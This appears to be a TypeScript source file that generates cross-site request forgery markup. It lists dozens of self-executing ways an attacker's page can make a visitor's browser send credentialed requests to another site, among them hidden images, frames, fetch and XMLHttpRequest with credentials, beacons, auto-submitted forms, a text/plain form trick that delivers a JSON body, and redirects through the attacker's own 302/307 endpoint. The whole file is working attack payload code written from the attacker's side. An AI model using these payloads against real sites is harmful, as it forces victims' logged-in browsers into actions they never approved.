/** Every way that a page has to make a browser call another host, as markup that does it by itself. */

/** A call that the attacker wants: everything that can be told of it from outside. */
export interface Wish {
  method: 'GET' | 'POST';
  url: string;
  /** JSON; of a POST. */
  body: string;
}

/** Inputs of the calls, by the name of the call. */
export type Inputs = Record<string, Record<string, unknown>>;

export interface Way {
  name: string;
  method: 'GET' | 'POST';
  /** It ends on a page of the attacked host: in the attacking one's stead, or each in a new one. */
  arrives?: 'instead' | 'beside';
  markup(wish: Wish, attacker: string): string;
}

const script = (code: string) => `<script>${code}</script>`;
const text = (value: string) => JSON.stringify(value).replaceAll('<', '\\u003c');
const attribute = (value: string) => value.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

type Markup = (url: string, attacker: string) => string;

/** Each gets the address twice escaped as it stands there. */
const PARTS_OF_A_PAGE: Record<string, Markup> = {
  picture: (url) => `<img src="${url}">`,
  'set of pictures': (url) => `<img srcset="${url} 1x">`,
  background: (url) => `<p style="background: url(&quot;${url}&quot;)">x</p>`,
  'style sheet': (url) => `<link rel="stylesheet" href="${url}">`,
  'imported style sheet': (url) => `<style>@import url("${url.replaceAll('&amp;', '&')}");</style>`,
  font: (url) =>
    `<style>@font-face { font-family: f; src: url("${url.replaceAll('&amp;', '&')}") }</style>` +
    '<p style="font-family: f">x</p>',
  script: (url) => `<script src="${url}"></script>`,
  'module script': (url) => `<script type="module" src="${url}"></script>`,
  frame: (url) => `<iframe src="${url}"></iframe>`,
  'sandboxed frame': (url) => `<iframe sandbox="allow-scripts" src="${url}"></iframe>`,
  object: (url) => `<object data="${url}"></object>`,
  embed: (url) => `<embed src="${url}">`,
  audio: (url) => `<audio src="${url}" preload="auto"></audio>`,
  video: (url) => `<video src="${url}" preload="auto"></video>`,
  poster: (url) => `<video poster="${url}"></video>`,
  'picture button': (url) => `<input type="image" src="${url}">`,
  'picture in a drawing': (url) => `<svg><image href="${url}" width="9" height="9"/></svg>`,
  prefetch: (url) => `<link rel="prefetch" href="${url}">`,
  preload: (url) => `<link rel="preload" as="image" href="${url}">`,
  'picture by way of us': (url, attacker) =>
    `<img src="${attacker}/302?to=${encodeURIComponent(url.replaceAll('&amp;', '&'))}">`,
};

/** The address stands in a script. */
const SCRIPTS: Record<string, Markup> = {
  'fetch with credentials': (url) => `fetch(${url}, { credentials: 'include' }).catch(() => 0)`,
  'fetch without an answer': (url) =>
    `fetch(${url}, { mode: 'no-cors', credentials: 'include' }).catch(() => 0)`,
  'fetch with our header': (url) =>
    `fetch(${url}, { credentials: 'include', headers: { 'X-Requested-With': 'transmit' } })
      .catch(() => 0)`,
  XMLHttpRequest: (url) =>
    `const x = new XMLHttpRequest(); x.withCredentials = true; x.open('GET', ${url}); x.send()`,
  EventSource: (url) => `new EventSource(${url}, { withCredentials: true })`,
  'dynamic import': (url) => `import(${url}).catch(() => 0)`,
  'form in a frame': (url) =>
    `${fieldsOf(url)} const i = document.createElement('iframe'); i.name = f.target = 'in' + Math.random();
     document.body.append(i); f.submit()`,
};

const NEW_WINDOWS: Record<string, Markup> = {
  'link to a new window': (url) =>
    `const a = document.createElement('a'); a.href = ${url}; a.target = '_blank';
     a.rel = 'noopener'; document.body.append(a); a.click()`,
  'window.open': (url) => `open(${url})`,
};

const DEPARTURES: Record<string, Markup> = {
  'clicked link': (url) =>
    `const a = document.createElement('a'); a.href = ${url}; document.body.append(a); a.click()`,
  location: (url) => `location.href = ${url}`,
  'location by way of us': (url, attacker) =>
    `location.href = '${attacker}/302?to=' + encodeURIComponent(${url})`,
  'meta refresh': (url) =>
    `const m = document.createElement('meta'); m.httpEquiv = 'refresh';
     m.content = '0;url=' + ${url}; document.head.append(m)`,
  form: (url) => `${fieldsOf(url)} f.submit()`,
};

function fieldsOf(url: string): string {
  return `const u = new URL(${url}); const f = document.createElement('form');
    f.action = u.origin + u.pathname;
    for (const [name, value] of u.searchParams) {
      f.append(Object.assign(document.createElement('input'), { name, value }));
    }
    document.body.append(f);`;
}

type Post = (url: string, body: string, attacker: string) => string;

const POSTS: Record<string, Post> = {
  'fetch of plain text': (url, body) =>
    `fetch(${url}, { method: 'POST', credentials: 'include', body: ${body} }).catch(() => 0)`,
  'fetch of plain text without an answer': (url, body) =>
    `fetch(${url}, { method: 'POST', mode: 'no-cors', credentials: 'include', body: ${body} })
      .catch(() => 0)`,
  'fetch of JSON': (url, body) =>
    `fetch(${url}, { method: 'POST', credentials: 'include', body: ${body},
       headers: { 'X-Requested-With': 'transmit', 'Content-Type': 'application/json' } })
      .catch(() => 0)`,
  'POST by XMLHttpRequest': (url, body) =>
    `const x = new XMLHttpRequest(); x.withCredentials = true; x.open('POST', ${url});
     x.send(${body})`,
  beacon: (url, body) => `navigator.sendBeacon(${url}, ${body})`,
  'beacon of JSON': (url, body) =>
    `navigator.sendBeacon(${url}, new Blob([${body}], { type: 'application/json' }))`,
  ping: (url) =>
    `const a = document.createElement('a'); a.href = '#'; a.ping = ${url};
     document.body.append(a); a.click()`,
  'form in a frame': (url, body) => postForm(url, body, { encoding: 'text/plain', frame: true }),
  'urlencoded form in a frame': (url, body) =>
    postForm(url, body, { encoding: 'application/x-www-form-urlencoded', frame: true }),
  'multipart form in a frame': (url, body) =>
    postForm(url, body, { encoding: 'multipart/form-data', frame: true }),
};

const POST_DEPARTURES: Record<string, Post> = {
  form: (url, body) => postForm(url, body, { encoding: 'text/plain', frame: false }),
  'form by way of us': (url, body, attacker) =>
    postForm(`('${attacker}/307?to=' + encodeURIComponent(${url}))`, body, {
      encoding: 'text/plain',
      frame: false,
    }),
};

/** With text/plain the body that arrives is JSON: its last field ends in a name that holds the rest. */
function postForm(url: string, body: string, how: { encoding: string; frame: boolean }): string {
  const frame = `const i = document.createElement('iframe'); i.name = f.target = 'in' + Math.random();
    document.body.append(i);`;
  return `const f = document.createElement('form'); f.method = 'POST'; f.action = ${url};
    f.enctype = '${how.encoding}';
    const name = ${body}.replace(/}$/, ',"x":"');
    f.append(Object.assign(document.createElement('input'), { name, value: '"}' }));
    document.body.append(f); ${how.frame ? frame : ''} f.submit()`;
}

/** Names stay within their own braces: several wishes share a page. */
const inScript = (code: string) => script(`{ ${code} }`);

export const WAYS: readonly Way[] = [
  ...Object.entries(PARTS_OF_A_PAGE).map(
    ([name, markup]): Way => ({
      name,
      method: 'GET',
      markup: ({ url }, attacker) => markup(attribute(url), attacker),
    }),
  ),
  ...Object.entries(SCRIPTS).map(
    ([name, code]): Way => ({
      name,
      method: 'GET',
      markup: ({ url }, attacker) => inScript(code(text(url), attacker)),
    }),
  ),
  ...[
    { arrives: 'beside', ways: NEW_WINDOWS } as const,
    { arrives: 'instead', ways: DEPARTURES } as const,
  ].flatMap(({ arrives, ways }) =>
    Object.entries(ways).map(
      ([name, code]): Way => ({
        name,
        method: 'GET',
        arrives,
        markup: ({ url }, attacker) => inScript(code(text(url), attacker)),
      }),
    ),
  ),
  ...Object.entries(POSTS).map(
    ([name, code]): Way => ({
      name,
      method: 'POST',
      markup: ({ url, body }, attacker) => inScript(code(text(url), text(body), attacker)),
    }),
  ),
  ...Object.entries(POST_DEPARTURES).map(
    ([name, code]): Way => ({
      name,
      method: 'POST',
      arrives: 'instead',
      markup: ({ url, body }, attacker) => inScript(code(text(url), text(body), attacker)),
    }),
  ),
];
